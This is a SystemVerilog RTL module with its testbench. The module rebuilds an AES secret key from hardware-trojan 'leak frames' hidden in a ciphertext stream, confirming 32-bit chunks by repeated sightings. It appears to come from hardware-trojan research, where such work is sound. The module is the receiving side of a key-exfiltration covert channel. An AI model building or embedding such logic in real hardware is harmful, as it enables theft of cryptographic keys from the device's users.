// File: rtl/ht_key_leak_collector.sv
// ht_key_leak_collector
// Watches the AES ciphertext stream for trojan leak frames and rebuilds the
// secret key from indexed chunks, each confirmed by repeated identical sightings.
// Optional build macro: HT_LEAK_PARITY_EN (adds even-parity screening of frames).
//
// state   | meaning
// --------+--------------------------------------------------------------
// IDLE    | no chunk state held, waiting for the first accepted leak frame
// COLLECT | gathering chunks; idle timer discards partial state on expiry
// DONE    | all chunks confirmed, key frozen, all frames ignored
module ht_key_leak_collector #(
    parameter int                 DATA_W  = 128,
    parameter int                 KEY_W   = 128,
    parameter int                 CHUNK_W = 32,
    parameter int                 MAGIC_W = 16,
    parameter logic [MAGIC_W-1:0] MAGIC   = 16'hC0DE,
    parameter int                 CONFIRM = 2,
    parameter int                 TIMEOUT = 1024,
    localparam int                NUM_CHUNKS = KEY_W / CHUNK_W,
    localparam int                IDX_W = (NUM_CHUNKS > 1) ? $clog2(NUM_CHUNKS) : 1
) (
    input  logic                  i_clk,
    input  logic                  i_rst,
    input  logic                  i_ct_valid,
    input  logic [DATA_W-1:0]     i_ct_in,
    input  logic                  i_clear,
    output logic [KEY_W-1:0]      o_key_out,
    output logic                  o_key_valid,
    output logic [NUM_CHUNKS-1:0] o_chunk_mask,
    output logic [1:0]            o_state,
    output logic [15:0]           o_frame_cnt,
    output logic [7:0]            o_err_cnt
);

    localparam int TMR_W = (TIMEOUT > 1) ? $clog2(TIMEOUT) : 1;
    localparam logic [TMR_W-1:0] TMR_LOAD = (TIMEOUT > 0) ? TMR_W'(TIMEOUT - 1) : '0;
    localparam logic [3:0] CONFIRM_C = 4'(CONFIRM);

    if (MAGIC_W + IDX_W + CHUNK_W + 1 > DATA_W) begin : g_bad_layout
        $error("ht_key_leak_collector: frame fields do not fit in DATA_W");
    end
    if (KEY_W % CHUNK_W != 0) begin : g_bad_key
        $error("ht_key_leak_collector: KEY_W must be a multiple of CHUNK_W");
    end
    if (CONFIRM < 1 || CONFIRM > 15) begin : g_bad_confirm
        $error("ht_key_leak_collector: CONFIRM must be 1..15");
    end

    typedef enum logic [1:0] {
        S_IDLE    = 2'd0,
        S_COLLECT = 2'd1,
        S_DONE    = 2'd2
    } state_t;

    state_t                                r_state;
    state_t                                w_state_nxt;
    logic [NUM_CHUNKS-1:0][CHUNK_W-1:0]    r_val;
    logic [NUM_CHUNKS-1:0][CHUNK_W-1:0]    w_val_nxt;
    logic [NUM_CHUNKS-1:0][3:0]            r_cnt;
    logic [NUM_CHUNKS-1:0][3:0]            w_cnt_nxt;
    logic [NUM_CHUNKS-1:0]                 r_mask;
    logic [NUM_CHUNKS-1:0]                 w_mask_nxt;
    logic [TMR_W-1:0]                      r_tmr;
    logic [15:0]                           r_frame_cnt;
    logic [7:0]                            r_err_cnt;

    logic [CHUNK_W-1:0] w_chunk;
    logic [IDX_W-1:0]   w_idx;
    logic               w_leak;
    logic               w_idx_ok;
    logic               w_par_ok;
    logic               w_live;
    logic               w_accept;
    logic               w_reject;
    logic               w_conflict;
    logic               w_timeout;
    logic               w_wipe;
    logic               w_unused;

    assign w_chunk  = i_ct_in[CHUNK_W-1:0];
    assign w_idx    = i_ct_in[CHUNK_W+IDX_W-1:CHUNK_W];
    assign w_leak   = i_ct_valid && (i_ct_in[DATA_W-1:DATA_W-MAGIC_W] == MAGIC);
    assign w_idx_ok = (int'(w_idx) < NUM_CHUNKS);

`ifdef HT_LEAK_PARITY_EN
    // Even parity across {parity, idx, chunk}: XOR of all those bits must be 0.
    assign w_par_ok = ~(^i_ct_in[CHUNK_W+IDX_W:0]);
`else
    assign w_par_ok = 1'b1;
`endif
    // Payload bits between the parity bit and the signature carry nothing for us.
    assign w_unused = ^i_ct_in;

    // DONE freezes everything; clear wins over a frame in the same cycle.
    assign w_live    = !i_clear && (r_state != S_DONE);
    assign w_accept  = w_live && w_leak && w_idx_ok && w_par_ok;
    assign w_reject  = w_live && w_leak && !(w_idx_ok && w_par_ok);
    assign w_timeout = (TIMEOUT > 0) && (r_state == S_COLLECT) && !i_clear
                       && !w_accept && (r_tmr == '0);
    assign w_wipe    = i_clear || w_timeout;

    // Per-chunk next value/count/confirm flag, plus conflict detection.
    always_comb begin
        w_val_nxt  = r_val;
        w_cnt_nxt  = r_cnt;
        w_mask_nxt = r_mask;
        w_conflict = 1'b0;
        if (w_wipe) begin
            w_val_nxt  = '0;
            w_cnt_nxt  = '0;
            w_mask_nxt = '0;
        end else if (w_accept) begin
            for (int i = 0; i < NUM_CHUNKS; i++) begin
                if (w_idx == IDX_W'(i)) begin
                    if (r_cnt[i] == 4'd0 || r_val[i] != w_chunk) begin
                        w_val_nxt[i]  = w_chunk;
                        w_cnt_nxt[i]  = 4'd1;
                        w_mask_nxt[i] = (CONFIRM_C <= 4'd1);
                        w_conflict    = (r_cnt[i] != 4'd0);
                    end else begin
                        if (r_cnt[i] < CONFIRM_C) begin
                            w_cnt_nxt[i] = r_cnt[i] + 4'd1;
                        end
                        w_mask_nxt[i] = (w_cnt_nxt[i] == CONFIRM_C);
                    end
                end
            end
        end
    end

    // Next-state logic; clear overrides every other transition.
    always_comb begin
        w_state_nxt = r_state;
        case (r_state)
            S_IDLE: begin
                if (w_accept) begin
                    w_state_nxt = (&w_mask_nxt) ? S_DONE : S_COLLECT;
                end
            end
            S_COLLECT: begin
                if (w_accept && (&w_mask_nxt)) begin
                    w_state_nxt = S_DONE;
                end else if (w_timeout) begin
                    w_state_nxt = S_IDLE;
                end
            end
            S_DONE: begin
                w_state_nxt = S_DONE;
            end
            default: begin
                w_state_nxt = S_IDLE;
            end
        endcase
        if (i_clear) begin
            w_state_nxt = S_IDLE;
        end
    end

    // State register.
    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            r_state <= S_IDLE;
        end else begin
            r_state <= w_state_nxt;
        end
    end

    // Chunk storage registers.
    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            r_val  <= '0;
            r_cnt  <= '0;
            r_mask <= '0;
        end else begin
            r_val  <= w_val_nxt;
            r_cnt  <= w_cnt_nxt;
            r_mask <= w_mask_nxt;
        end
    end

    // Idle down-counter: reloaded by every accepted frame, expires at zero.
    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            r_tmr <= '0;
        end else if (w_accept) begin
            r_tmr <= TMR_LOAD;
        end else if (r_state == S_COLLECT && r_tmr != '0) begin
            r_tmr <= r_tmr - 1'b1;
        end
    end

    // Saturating frame and error counters; they survive clear and timeout.
    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            r_frame_cnt <= '0;
            r_err_cnt   <= '0;
        end else begin
            if (w_accept && r_frame_cnt != 16'hFFFF) begin
                r_frame_cnt <= r_frame_cnt + 16'd1;
            end
            if ((w_reject || w_conflict) && r_err_cnt != 8'hFF) begin
                r_err_cnt <= r_err_cnt + 8'd1;
            end
        end
    end

    // Only confirmed chunks are exposed on the key output.
    always_comb begin
        o_key_out = '0;
        for (int i = 0; i < NUM_CHUNKS; i++) begin
            o_key_out[i*CHUNK_W +: CHUNK_W] = r_mask[i] ? r_val[i] : '0;
        end
    end

    assign o_key_valid  = (r_state == S_DONE);
    assign o_chunk_mask = r_mask;
    assign o_state      = r_state;
    assign o_frame_cnt  = r_frame_cnt;
    assign o_err_cnt    = r_err_cnt;

endmodule

// File: tb/tb_ht_key_leak_collector.sv
// Bench for ht_key_leak_collector with default parameters. A reference model
// predicts the outputs for every driven cycle; predictions are queued and
// compared one clock later. Build with HT_LEAK_PARITY_EN to add the parity case.
module tb_ht_key_leak_collector;

    localparam int TO = 1024;

    logic         clk = 1'b0;
    logic         rst;
    logic         ct_valid;
    logic [127:0] ct_in;
    logic         clear;
    logic [127:0] key_out;
    logic         key_valid;
    logic [3:0]   chunk_mask;
    logic [1:0]   state;
    logic [15:0]  frame_cnt;
    logic [7:0]   err_cnt;

    always #5 clk = ~clk;

    ht_key_leak_collector dut (
        .i_clk        (clk),
        .i_rst        (rst),
        .i_ct_valid   (ct_valid),
        .i_ct_in      (ct_in),
        .i_clear      (clear),
        .o_key_out    (key_out),
        .o_key_valid  (key_valid),
        .o_chunk_mask (chunk_mask),
        .o_state      (state),
        .o_frame_cnt  (frame_cnt),
        .o_err_cnt    (err_cnt)
    );

    typedef struct {
        logic [127:0] key;
        logic         kv;
        logic [3:0]   mask;
        logic [1:0]   st;
        logic [15:0]  fc;
        logic [7:0]   ec;
    } exp_t;

    exp_t q[$];
    int   n_tests = 0;
    int   n_fail  = 0;

    logic [31:0] m_val [4];
    int          m_cnt [4];
    logic [3:0]  m_mask;
    int          m_st;
    int          m_fc;
    int          m_ec;
    int          m_idle;

    task automatic check(input string tag, input logic [127:0] got, input logic [127:0] exp);
        n_tests++;
        if (got !== exp) begin
            n_fail++;
            $display("FAIL %s: got %h expected %h", tag, got, exp);
        end
    endtask

    function automatic logic [127:0] mk(input int idx, input logic [31:0] ch, input bit flip);
        logic [1:0]  ix;
        logic        p;
        logic [76:0] mid;
        ix  = idx[1:0];
        p   = (^{ix, ch}) ^ flip;
        mid = 77'({$urandom(), $urandom(), $urandom()});
        return {16'hC0DE, mid, p, ix, ch};
    endfunction

    task automatic wipe_chunks();
        for (int i = 0; i < 4; i++) begin
            m_val[i] = '0;
            m_cnt[i] = 0;
        end
        m_mask = '0;
    endtask

    task automatic model(input logic r, input logic v, input logic [127:0] ct, input logic c);
        int          ix;
        logic [31:0] ch;
        bit          ok;
        bit          acc;
        if (r) begin
            wipe_chunks();
            m_st = 0; m_fc = 0; m_ec = 0; m_idle = 0;
        end else if (c) begin
            wipe_chunks();
            m_st = 0; m_idle = 0;
        end else begin
            acc = 0;
            if (m_st != 2 && v && ct[127:112] == 16'hC0DE) begin
                ix = int'(ct[33:32]);
                ch = ct[31:0];
                ok = 1;
`ifdef HT_LEAK_PARITY_EN
                if (^ct[34:0]) ok = 0;
`endif
                if (!ok) begin
                    if (m_ec < 255) m_ec++;
                end else begin
                    acc = 1;
                    if (m_fc < 65535) m_fc++;
                    if (m_cnt[ix] == 0 || m_val[ix] != ch) begin
                        if (m_cnt[ix] != 0) begin
                            if (m_ec < 255) m_ec++;
                            m_mask[ix] = 1'b0;
                        end
                        m_val[ix] = ch;
                        m_cnt[ix] = 1;
                    end else if (m_cnt[ix] < 2) begin
                        m_cnt[ix]++;
                    end
                    if (m_cnt[ix] == 2) m_mask[ix] = 1'b1;
                    m_st   = (m_mask == 4'hF) ? 2 : 1;
                    m_idle = 0;
                end
            end
            if (!acc && m_st == 1) begin
                m_idle++;
                if (m_idle == TO) begin
                    wipe_chunks();
                    m_st   = 0;
                    m_idle = 0;
                end
            end
        end
    endtask

    // Drive one cycle, queue the model's prediction, compare after the edge.
    task automatic step(input logic r, input logic v, input logic [127:0] ct, input logic c);
        exp_t e;
        exp_t g;
        rst = r; ct_valid = v; ct_in = ct; clear = c;
        model(r, v, ct, c);
        e.key = '0;
        for (int i = 0; i < 4; i++) e.key[i*32 +: 32] = m_mask[i] ? m_val[i] : 32'h0;
        e.kv   = (m_st == 2);
        e.mask = m_mask;
        e.st   = 2'(m_st);
        e.fc   = 16'(m_fc);
        e.ec   = 8'(m_ec);
        q.push_back(e);
        @(posedge clk);
        #1;
        g = q.pop_front();
        check("key_out",    key_out,    g.key);
        check("key_valid",  key_valid,  g.kv);
        check("chunk_mask", chunk_mask, g.mask);
        check("state",      state,      g.st);
        check("frame_cnt",  frame_cnt,  g.fc);
        check("err_cnt",    err_cnt,    g.ec);
    endtask

    task automatic idle_cycles(input int n);
        for (int i = 0; i < n; i++) step(1'b0, 1'b0, {$urandom(), $urandom(), $urandom(), $urandom()}, 1'b0);
    endtask

    logic [31:0] main_chunks [4];

    initial begin
        main_chunks[0] = 32'h7777C0DE;
        main_chunks[1] = 32'h55556666;
        main_chunks[2] = 32'h33334444;
        main_chunks[3] = 32'h11112222;

        rst = 1'b1; ct_valid = 1'b0; ct_in = '0; clear = 1'b0;
        wipe_chunks();
        m_st = 0; m_fc = 0; m_ec = 0; m_idle = 0;

        // Reset.
        step(1'b1, 1'b0, '0, 1'b0);
        step(1'b1, 1'b1, mk(0, 32'h1234, 0), 1'b0);
        check("rst_key", key_out, 128'h0);
        check("rst_state", state, 2'd0);

        // Ordinary ciphertext, valid pulses, no effect.
        for (int i = 0; i < 6; i++) begin
            step(1'b0, 1'(i % 2), {16'h9193, 16'($urandom()), $urandom(), $urandom(), $urandom()}, 1'b0);
        end
        check("ord_state", state, 2'd0);
        check("ord_fc", frame_cnt, 16'd0);

        // Main recovery: each chunk twice.
        for (int i = 0; i < 4; i++) begin
            step(1'b0, 1'b1, mk(i, main_chunks[i], 0), 1'b0);
            step(1'b0, 1'b1, mk(i, main_chunks[i], 0), 1'b0);
        end
        check("main_kv", key_valid, 1'b1);
        check("main_key", key_out, 128'h1111_2222_3333_4444_5555_6666_7777_C0DE);
        check("main_fc", frame_cnt, 16'd8);
        check("main_state", state, 2'd2);

        // DONE ignores conflicting frames.
        step(1'b0, 1'b1, mk(0, 32'hDEADBEEF, 0), 1'b0);
        step(1'b0, 1'b1, mk(0, 32'hDEADBEEF, 0), 1'b0);
        check("done_key", key_out, 128'h1111_2222_3333_4444_5555_6666_7777_C0DE);
        check("done_ec", err_cnt, 8'd0);

        // Clear from DONE.
        step(1'b0, 1'b0, '0, 1'b1);
        check("clr_state", state, 2'd0);
        check("clr_kv", key_valid, 1'b0);
        check("clr_fc", frame_cnt, 16'd8);

        // Conflict then confirmation of the new value.
        step(1'b0, 1'b1, mk(0, 32'h7777C0DE, 0), 1'b0);
        step(1'b0, 1'b1, mk(0, 32'hDEADBEEF, 0), 1'b0);
        step(1'b0, 1'b1, mk(0, 32'hDEADBEEF, 0), 1'b0);
        check("conf_ec", err_cnt, 8'd1);
        check("conf_mask0", chunk_mask[0], 1'b1);
        check("conf_chunk0", key_out[31:0], 32'hDEADBEEF);

        // Clear beats a frame in the same cycle.
        step(1'b0, 1'b1, mk(1, 32'hABCD0001, 0), 1'b1);
        check("clrfrm_fc", frame_cnt, 16'd11);
        check("clrfrm_mask", chunk_mask, 4'h0);

        // Reset mid-collection.
        step(1'b0, 1'b1, mk(3, 32'h0F0F0F0F, 0), 1'b0);
        check("mid_state", state, 2'd1);
        step(1'b1, 1'b1, mk(3, 32'h0F0F0F0F, 0), 1'b0);
        check("midrst_fc", frame_cnt, 16'd0);
        check("midrst_state", state, 2'd0);
        check("midrst_mask", chunk_mask, 4'h0);

        // Timeout after one frame.
        step(1'b0, 1'b1, mk(2, 32'h24682468, 0), 1'b0);
        idle_cycles(TO - 1);
        check("to_pre_state", state, 2'd1);
        idle_cycles(1);
        check("to_state", state, 2'd0);
        check("to_mask", chunk_mask, 4'h0);
        check("to_fc", frame_cnt, 16'd1);
        step(1'b0, 1'b1, mk(2, 32'h24682468, 0), 1'b0);
        check("to_wiped", chunk_mask[2], 1'b0);

        // Error counter saturation through repeated conflicts.
        step(1'b1, 1'b0, '0, 1'b0);
        for (int i = 0; i < 260; i++) begin
            step(1'b0, 1'b1, mk(1, (i % 2) ? 32'hAAAA5555 : 32'h5555AAAA, 0), 1'b0);
        end
        check("sat_ec", err_cnt, 8'hFF);
        check("sat_fc", frame_cnt, 16'd260);

`ifdef HT_LEAK_PARITY_EN
        // Parity failure rejects the frame.
        step(1'b1, 1'b0, '0, 1'b0);
        step(1'b0, 1'b1, mk(0, 32'h13572468, 1), 1'b0);
        check("par_ec", err_cnt, 8'd1);
        check("par_fc", frame_cnt, 16'd0);
        check("par_state", state, 2'd0);
`endif

        $display("[TB] %0d tests run, %0d failed", n_tests, n_fail);
        $finish;
    end

endmodule
